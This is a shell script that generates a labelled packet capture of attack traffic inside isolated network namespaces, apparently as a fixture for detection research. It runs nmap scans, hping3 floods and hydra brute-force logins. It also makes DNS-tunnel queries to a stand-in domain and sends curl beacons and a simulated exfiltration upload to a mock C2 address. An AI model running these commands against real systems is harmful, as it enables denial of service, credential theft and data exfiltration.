#!/bin/sh
# Makes tools.pcap.gz and tools.labels.json: real attack tools between two
# network namespaces joined by a veth pair, captured on the victim's side.
# Needs root, nmap, hping3, hydra, tcpdump, python3, OpenSSH's sshd (with
# host keys), dig, curl. Bounded in count and time: about 3 minutes, 15k
# packets. The victim namespace also holds an "internet" address,
# 203.0.113.10, that the attacker reaches through it.
set -eu
out=$(cd "$(dirname "$0")" && pwd)
tmp=$(mktemp -d)
A=10.99.0.1 V=10.99.0.2
ip netns add beh_a; ip netns add beh_v
cleanup() {
    for p in $tmp/*.pid; do kill "$(cat "$p")" 2>/dev/null || true; done
    ip netns del beh_a 2>/dev/null || true; ip netns del beh_v 2>/dev/null || true
    rm -rf "$tmp"
}
trap cleanup EXIT INT TERM
ip link add beh_va type veth peer name beh_vv
ip link set beh_va netns beh_a; ip link set beh_vv netns beh_v
ip -n beh_a addr add $A/24 dev beh_va; ip -n beh_v addr add $V/24 dev beh_vv
for n in beh_a beh_v; do ip -n $n link set lo up; done
ip -n beh_a link set beh_va up; ip -n beh_v link set beh_vv up
# A remote network behind the victim (which does not forward): a sweep of an
# on-link network is ARP only, one of a routed network is IP.
ip -n beh_a route add 10.98.0.0/24 via $V
ip -n beh_v addr add 203.0.113.10/32 dev beh_vv
ip -n beh_a route add 203.0.113.10/32 via $V
# The victim: a web server on 80, a Basic-auth realm refusing everyone on 8080.
cat > $tmp/auth401.py <<'PY'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(401); self.send_header("WWW-Authenticate", 'Basic realm="x"')
        self.send_header("Content-Length", "0"); self.end_headers()
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("10.99.0.2", 8080), H).serve_forever()
PY
ip netns exec beh_v python3 -m http.server 80 --bind $V >/dev/null 2>&1 & echo $! > $tmp/http.pid
ip netns exec beh_v python3 $tmp/auth401.py >/dev/null 2>&1 & echo $! > $tmp/auth.pid
# A DNS server answering every query with a TXT record.
cat > $tmp/dns_txt.py <<'PY'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("10.99.0.2", 53))
while True:
    q, addr = s.recvfrom(512)
    if len(q) < 12: continue
    i = 12
    while i < len(q) and q[i] != 0: i += q[i] + 1
    txt = b"aGVsbG8gd29ybGQgZnJvbSB0aGUgdHVubmVs"
    ans = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt) + 1) + bytes([len(txt)]) + txt
    s.sendto(q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + q[12:i + 5] + ans, addr)
PY
ip netns exec beh_v python3 $tmp/dns_txt.py >/dev/null 2>&1 & echo $! > $tmp/dns.pid
# The "internet" web server: check-ins and uploads.
cat > $tmp/c2.py <<'PY'
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def reply(self):
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
    def do_GET(self): self.reply()
    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        while n > 0: n -= len(self.rfile.read(min(n, 65536)))
        self.reply()
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("203.0.113.10", 80), H).serve_forever()
PY
ip netns exec beh_v python3 $tmp/c2.py >/dev/null 2>&1 & echo $! > $tmp/c2.pid
mkdir -p /run/sshd
ip netns exec beh_v /usr/sbin/sshd -D -o ListenAddress=$V -o PidFile=none -o PasswordAuthentication=yes & echo $! > $tmp/sshd.pid
ip netns exec beh_v tcpdump -i beh_vv -w $tmp/tools.pcap -U >/dev/null 2>&1 & echo $! > $tmp/tcpdump.pid
sleep 2
ts() { date -u +%Y-%m-%dT%H:%M:%S.%6N+0000; }
labels=""
label() { labels="$labels${labels:+,}
    {\"kind\": \"$1\", \"technique\": \"$2\", \"attacker\": \"$A\", \"start\": \"$3\", \"end\": \"$4\"}"; }
s=$(ts); ip netns exec beh_a nmap -sS -p 1-1000 -T4 -n $V >/dev/null; label port_scan T1046 "$s" "$(ts)"; sleep 2
# An ICMP echo sweep of the routed /24.
s=$(ts); ip netns exec beh_a nmap -sn -PE --send-ip -n 10.98.0.0/24 >/dev/null; label host_sweep T1018 "$s" "$(ts)"; sleep 2
s=$(ts); ip netns exec beh_a timeout 20 hping3 -S -p 80 -c 1500 -i u1000 $V >/dev/null 2>&1 || true; label syn_flood T1499.001 "$s" "$(ts)"; sleep 2
s=$(ts); ip netns exec beh_a timeout 20 hping3 --udp -p 9999 -c 6000 -i u100 $V >$tmp/hping_udp.log 2>&1 || cat $tmp/hping_udp.log >&2; label udp_flood T1498.001 "$s" "$(ts)"; sleep 2
seq -f 'pass%g' 1 30 > $tmp/pw.txt
s=$(ts); ip netns exec beh_a timeout 60 hydra -l admin -P $tmp/pw.txt -t 4 -s 8080 $V http-get / >/dev/null 2>&1 || true
e=$(ts); label http_brute_force T1110.001 "$s" "$e"
# Each guess is a Basic credential in the clear, as FTP guesses are.
label cleartext_http_basic T1552 "$s" "$e"; sleep 2
# 30 passwords, 4 tasks: OpenSSH lets each session try several, so hydra
# opens only about 9 sessions.
s=$(ts); ip netns exec beh_a timeout 120 hydra -l admin -P $tmp/pw.txt -t 4 ssh://$V >/dev/null 2>&1 || true
label ssh_brute_force T1110.001 "$s" "$(ts)"; sleep 2
# 40 TXT queries carrying 48 base32 characters each.
s=$(ts); for i in $(seq 1 40); do
    n=$(head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
    ip netns exec beh_a dig +short +tries=1 +time=1 @$V TXT "$n.$i.t.exfil-tunnel.net" >/dev/null
done; label dns_tunnel T1071.004 "$s" "$(ts)"; sleep 2
# A curl loop checking in every ~3 s, then a 2 MB upload over the same channel.
s=$(ts); for i in $(seq 1 12); do ip netns exec beh_a curl -s -m 2 http://203.0.113.10/c2 >/dev/null; sleep 2.7; done
label beaconing T1071.001 "$s" "$(ts)"
# Zeros: what is uploaded does not matter, and they keep the capture small.
head -c 2000000 /dev/zero > $tmp/blob
s=$(ts); ip netns exec beh_a curl -s -m 20 --data-binary @$tmp/blob http://203.0.113.10/upload >/dev/null
label exfiltration_over_c2 T1041 "$s" "$(ts)"; sleep 2
kill "$(cat $tmp/tcpdump.pid)"; sleep 1
gzip -9 -c $tmp/tools.pcap > "$out/tools.pcap.gz"
printf '{"attacks": [%s\n]}\n' "$labels" > "$out/tools.labels.json"
